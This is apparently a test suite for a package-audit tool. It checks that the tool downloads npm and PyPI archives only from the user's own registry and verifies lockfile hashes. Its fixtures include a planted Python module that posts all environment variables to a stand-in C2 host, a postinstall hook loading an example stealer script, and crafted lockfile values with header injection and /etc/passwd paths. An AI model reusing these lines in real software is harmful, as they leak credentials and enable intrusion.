"""audit_fetch_test.py - ratter audit --scan brings content from the registry that the person's own client is configured
for, checks it against the lockfile before anything reads it, and asks nobody else. Servers are ours, on loopback."""
import base64
import hashlib
import http.server
import io
import json
import os
import shutil
import subprocess
import sys
import tarfile
import tempfile
import threading
import time
import zipfile

RATTER = os.environ["RATTER"]
ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
number = failures = 0
made = []


def check(name, truth, detail=""):
    global number, failures
    number += 1
    failures += not truth
    print(f"{'ok' if truth else 'not ok'} {number} - {name}")
    if not truth and detail:
        print("#   " + str(detail)[:900].replace("\n", "\n#   "))


class Server:
    """Answers from `pages`: path -> (status, headers, body) or a function; notes each request."""

    def __init__(self):
        self.pages, self.seen = {}, []
        outer = self

        class Handler(http.server.BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def do_GET(self):
                outer.seen.append((self.path, dict(self.headers)))
                status, headers, body = outer.pages.get(self.path, (404, {}, b"no such thing"))
                self.send_response(status)
                for key, value in headers.items():
                    self.send_header(key, value)
                if "Content-Length" not in headers:
                    self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                try:
                    self.wfile.write(body)
                except OSError:
                    pass

            def log_message(self, *args):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        self.host = f"127.0.0.1:{self.server.server_port}"
        self.url = f"http://{self.host}"

    def add(self, path, body, status=200, **headers):
        self.pages[path] = (status, {k.replace("_", "-"): v for k, v in headers.items()}, body)

    def paths(self):
        return [path for path, _ in self.seen]


def make(files):
    folder = tempfile.mkdtemp(prefix="ratter-fetch-")
    made.append(folder)
    for path, content in files.items():
        os.makedirs(os.path.dirname(os.path.join(folder, path)) or folder, exist_ok=True)
        with open(os.path.join(folder, path), "wb") as f:
            f.write(content if isinstance(content, bytes) else content.encode())
    return folder


def tgz(name, version="1.0.0", script=None):
    manifest = {"name": name, "version": version}
    if script:
        manifest["scripts"] = {"postinstall": "node setup.js"}
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
        for path, body in {"package.json": json.dumps(manifest), "setup.js": script or "1\n"}.items():
            info = tarfile.TarInfo("package/" + path)
            info.size = len(body)
            archive.addfile(info, io.BytesIO(body.encode()))
    return buffer.getvalue()


def wheel(name, version, body):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(f"{name}/__init__.py", body)
        archive.writestr(f"{name}-{version}.dist-info/METADATA", f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n")
        archive.writestr(f"{name}-{version}.dist-info/WHEEL", "Wheel-Version: 1.0\n")
        archive.writestr(f"{name}-{version}.dist-info/RECORD", "")
    return buffer.getvalue()


def sri(data):
    return "sha512-" + base64.b64encode(hashlib.sha512(data).digest()).decode()


def lock(entries):
    """name -> (archive or None, resolved)"""
    packages = {"": {"name": "app", "dependencies": {name: "1.0.0" for name in entries}}}
    for name, (archive, resolved) in entries.items():
        packages["node_modules/" + name] = {"version": "1.0.0", "resolved": resolved}
        if archive:
            packages["node_modules/" + name]["integrity"] = sri(archive)
    return json.dumps({"name": "app", "lockfileVersion": 3, "packages": packages}, indent=1)


def audit(project, home, *flags, path=None, **more):
    environment = {"PATH": path or "/nowhere", "HOME": home, "XDG_CACHE_HOME": os.path.join(home, "cache"), **more}
    for name in ("ASAN_OPTIONS", "UBSAN_OPTIONS"):
        if name in os.environ:
            environment[name] = os.environ[name]
    run = subprocess.run([RATTER, "audit", "--intel", "none", "--scan", "-f", "jsonl", *flags, "."], cwd=project, env=environment,
                         stdout=subprocess.PIPE, stderr=subprocess.PIPE, timeout=120)
    reports = [json.loads(line) for line in run.stdout.decode("utf-8", "replace").splitlines()]
    return run.returncode, reports, run.stderr.decode("utf-8", "replace")


def scanned(reports):
    return sorted(r["artifact"]["path"] for r in reports if r["artifact"]["path"].startswith("pkg:"))


def unseen(reports):
    return " | ".join(u["reason"] for r in reports for u in r["unseen"])


with open(os.path.join(ROOT, "examples", "npm-stealer", "setup.js"), encoding="utf-8") as example:
    BAD = example.read()

try:
    registry, other = Server(), Server()
    good, bad, scoped = tgz("good"), tgz("bad", script=BAD), tgz("@acme/tool")
    registry.add("/npm/good/-/good-1.0.0.tgz", good)
    registry.add("/npm/bad/-/bad-1.0.0.tgz", bad)
    registry.add("/npm/@acme/tool/-/tool-1.0.0.tgz", scoped)
    for name in ("good", "bad", "moved", "evil"):
        other.add(f"/{name}/-/{name}-1.0.0.tgz", good)
    away = f"{other.url}/good/-/good-1.0.0.tgz"  # what a hostile lockfile says
    npmrc = f"registry={registry.url}/npm/\n//{registry.host}/npm/:_authToken=${{TOKEN}}\n//{other.host}/:_authToken=NOT-FOR-ASKING\n"
    home = make({".npmrc": npmrc})
    project = make({"package-lock.json": lock({"good": (good, away), "bad": (bad, f"{registry.url}/npm/bad/-/bad-1.0.0.tgz"),
                                               "@acme/tool": (scoped, "")})})
    status, reports, said = audit(project, home, TOKEN="t0ken")
    check("archives come from the person's registry, whatever the lockfile says", scanned(reports) == [
        "pkg:npm/%40acme/tool@1.0.0", "pkg:npm/bad@1.0.0", "pkg:npm/good@1.0.0"], (status, scanned(reports), unseen(reports), said))
    check("and are examined: exit 1", status == 1 and [r["verdict"] for r in reports if "/bad@" in r["artifact"]["path"]] == ["malicious"], status)
    check("the address of another host is not asked", not other.seen, other.seen)
    check("the registry gets its credential", registry.seen and all(h.get("Authorization") == "Bearer t0ken" for _, h in registry.seen), registry.seen)
    check("and nothing that says who we are", all(set(h) <= {"Host", "Accept", "User-Agent", "Authorization"} for _, h in registry.seen), registry.seen)
    check("no secret is told", "t0ken" not in json.dumps(reports) + said)
    registry.seen.clear()
    status, reports, said = audit(project, home, "--offline", TOKEN="t0ken")
    check("--offline asks nobody", not registry.seen and not other.seen and "3 dependencies is not on this machine" in unseen(reports), unseen(reports))
    status, reports, said = audit(project, home, "--no-home", TOKEN="t0ken")
    check("--no-home: no registry is known, nobody is asked", not registry.seen and not other.seen and "no registry of yours" in unseen(reports), unseen(reports))

    hostile = make({"package-lock.json": lock({"good": (good, away)}), ".npmrc": f"registry={other.url}/\n"})
    status, reports, said = audit(hostile, make({".npmrc": f"registry={registry.url}/npm/\n"}))
    check("a registry that only the project names is not asked", not other.seen and scanned(reports) == ["pkg:npm/good@1.0.0"], (other.seen, unseen(reports)))
    status, reports, said = audit(make({"package-lock.json": lock({"@acme/tool": (scoped, "")}), ".npmrc": f"@acme:registry={registry.url}/npm/\n"}),
                                  make({".npmrc": f"registry={other.url}/\n//{registry.host}/npm/:_authToken=known\n"}))
    check("a project's scope on a registry that the person has a credential for is", scanned(reports) == ["pkg:npm/%40acme/tool@1.0.0"] and
          registry.seen[-1][1].get("Authorization") == "Bearer known", (unseen(reports), registry.seen[-1:]))
    registry.seen.clear()

    registry.add("/npm/forged/-/forged-1.0.0.tgz", good)
    registry.add("/npm/moved/-/moved-1.0.0.tgz", b"", 302, Location=f"{other.url}/moved/-/moved-1.0.0.tgz")
    registry.add("/npm/near/-/near-1.0.0.tgz", b"", 302, Location="/npm/good/-/good-1.0.0.tgz")
    registry.add("/npm/round/-/round-1.0.0.tgz", b"", 302, Location="/npm/round/-/round-1.0.0.tgz")
    registry.add("/npm/short/-/short-1.0.0.tgz", good, Content_Length=str(len(good) + 1000), Connection="close")
    registry.add("/npm/empty/-/empty-1.0.0.tgz", b"")
    registry.add("/npm/denied/-/denied-1.0.0.tgz", good, 403)
    several = {"forged": bad, "moved": good, "near": good, "round": good, "short": good, "empty": b"", "denied": good, "absent": good, "bare": None}
    entries = {name: (archive, f"{registry.url}/npm/{name}/-/{name}-1.0.0.tgz") for name, archive in several.items()}
    entries["empty"] = (b"x", entries["empty"][1])
    status, reports, said = audit(make({"package-lock.json": lock(entries)}), home)
    told = unseen(reports)
    check("other bytes than the lockfile promises are not examined", "serves other bytes than the lockfile promises" in told and "(forged)" in told, told)
    check("a way to another host is not taken", "points to another host" in told and not other.seen, (told, other.seen))
    check("a way on the same host is", scanned(reports) == ["pkg:npm/near@1.0.0"], scanned(reports))
    check("a way in a circle ends", "points on and on" in told, told)
    check("an answer that is cut off fails", "(short)" in told, told)
    check("an empty answer fails", "it is empty" in told and "(empty)" in told, told)
    check("refusals are told", "answers 403" in told and "answers 404" in told, told)
    check("without a hash in the lockfile nothing is asked for", "(bare)" in told and not any("bare" in p for p in registry.paths()), told)
    check("nothing of it is clean: exit 3", status == 3, status)

    odd = {"../../x": (good, ""), "a b": (good, ""), "x\r\nHost: y": (good, ""), "x?y": (good, f"{registry.url}/npm/x y"), "z": (good, f"http://u:p@{registry.host}/npm/z.tgz"),
           "w": (good, f"{registry.url}@{other.host}/good/-/good-1.0.0.tgz"), "v": (good, f"{registry.url}\\@{other.host}/x"), "u": (good, "file:///etc/passwd")}
    registry.seen.clear()
    status, reports, said = audit(make({"package-lock.json": lock(odd)}), home)
    check("names and addresses that are none are not sent", status == 3 and not other.seen and all(p.startswith(("/npm/z/-/", "/npm/w/-/", "/npm/v/-/", "/npm/u/-/"))
          for p in registry.paths()), (status, registry.paths(), unseen(reports)))

    # ratter.yaml, and asking npm itself
    config = make({"ratter.yaml": f"audit:\n  registries:\n    npm: {registry.url}/npm\n    pypi: [{registry.url}/simple/, {other.url}]\n"})
    flag = ("--config", os.path.join(config, "ratter.yaml"))
    simple = make({"package-lock.json": lock({"good": (good, "")})})
    status, reports, said = audit(simple, make({}), *flag)
    check("ratter.yaml names a registry", scanned(reports) == ["pkg:npm/good@1.0.0"], unseen(reports))
    fake = make({"npm": f"#!/bin/sh\n[ \"$*\" = 'config get registry' ] && pwd >\"$HOME/where\" && echo {registry.url}/npm/\n"})
    os.chmod(os.path.join(fake, "npm"), 0o755)
    home_of_npm = make({})
    status, reports, said = audit(simple, home_of_npm, path=fake + ":/usr/bin:/bin")
    with open(os.path.join(home_of_npm, "where"), encoding="utf-8") as f:
        check("npm itself is asked when nothing names a registry, outside of the project", f.read() == "/\n" and scanned(reports) == ["pkg:npm/good@1.0.0"], unseen(reports))
    status, reports, said = audit(simple, make({}))
    check("and when there is no npm, nobody is", not scanned(reports) and "no registry of yours" in unseen(reports), unseen(reports))
    for text in ("audit:\n  registries: [x]\n", "audit:\n  registries:\n    npm: ftp://x.example.invalid/\n", "audit:\n  registries:\n    cargo: https://x.example.invalid/\n",
                 "audit:\n  registries:\n    npm: https://u:p@x.example.invalid/\n"):
        folder = make({"ratter.yaml": text})
        status, reports, said = audit(simple, make({}), "--config", os.path.join(folder, "ratter.yaml"))
        check("registries with a fault are exit 2 with their line", status == 2 and "ratter.yaml:" in said, (status, said))

    # Python: an index page, its files beside it or elsewhere
    steal = "import os, urllib.request\nurllib.request.urlopen('https://c2.example.invalid/x', data=str(dict(os.environ)).encode())\n"
    whl, sdist, far = wheel("left_part", "1.0", steal), b"not asked for", wheel("far_part", "1.0", "x = 1\n")
    sha = lambda data: hashlib.sha256(data).hexdigest()
    registry.add("/simple/left-part/", (f'<a href="../../files/left_part-0.9-py3-none-any.whl#sha256={"0" * 64}">old</a>'
                 f'<a href="../../files/left_part-1.0.tar.gz#sha256={sha(sdist)}">s</a><a href=\'../../files/left_part-1.0-py3-none-any.whl#sha256={sha(whl)}\'>w</a><a href="').encode())
    registry.add("/files/left_part-1.0-py3-none-any.whl", whl)
    page = {"meta": {"api-version": "1.0"}, "files": [{"filename": "far_part-1.0-py3-none-any.whl", "url": f"{other.url}/far_part-1.0-py3-none-any.whl", "hashes": {"sha256": sha(far)}}]}
    registry.add("/simple/far-part/", json.dumps(page).encode(), Content_Type="application/vnd.pypi.simple.v1+json")
    other.add("/far_part-1.0-py3-none-any.whl", far)
    registry.add("/simple/odd-part/", b"\0\xff<a href=" * 1000)
    text = f"left-part==1.0 --hash=sha256:{sha(sdist)} --hash=sha256:{sha(whl)}\nfar_part==1.0 --hash=sha256:{sha(far)}\nodd-part==1.0 --hash=sha256:{'1' * 64}\nno-hash==1.0\n"
    python = make({"requirements.txt": text})
    home = make({".config/pip/pip.conf": f"[global]\nindex-url = http://bot:w%40rd@{registry.host}/simple\n"})
    registry.seen.clear()
    status, reports, said = audit(python, home)
    told = unseen(reports)
    check("Python: the index of pip's configuration gives the file with the lockfile's hash", scanned(reports) == ["pkg:pypi/left-part@1.0"] and
          "/files/left_part-1.0-py3-none-any.whl" in registry.paths(), (scanned(reports), told, registry.paths()))
    check("with the credential of the index", all(h.get("Authorization") == "Basic " + base64.b64encode(b"bot:w@rd").decode() for _, h in registry.seen), registry.seen)
    check("and it is examined", [r["verdict"] for r in reports if "left-part" in r["artifact"]["path"]][0] in ("malicious", "suspicious"), reports)
    check("files on a host that no configuration names are not asked for", not other.seen and "which no configuration of yours names" in told, (other.seen, told))
    check("an index page that makes no sense is told", "no file with a hash of the lockfile" in told, told)
    check("a requirement without a hash is not asked for", "/simple/no-hash/" not in registry.paths(), registry.paths())
    status, reports, said = audit(python, make({}), *flag)
    check("but they are when ratter.yaml names that host", scanned(reports) == ["pkg:pypi/far-part@1.0", "pkg:pypi/left-part@1.0"], (scanned(reports), unseen(reports)))
    check("and get no credential of another", other.seen and all("Authorization" not in h for _, h in other.seen), other.seen)

    registry.server.shutdown()
    registry.server.server_close()
    started = time.monotonic()
    status, reports, said = audit(simple, make({".npmrc": npmrc}))
    check("a registry that is down: told, exit 3", status == 3 and "the download failed" in unseen(reports) and time.monotonic() - started < 60, (status, unseen(reports)))
finally:
    for folder in made:
        shutil.rmtree(folder, ignore_errors=True)
print(f"1..{number}")
sys.exit(1 if failures else 0)
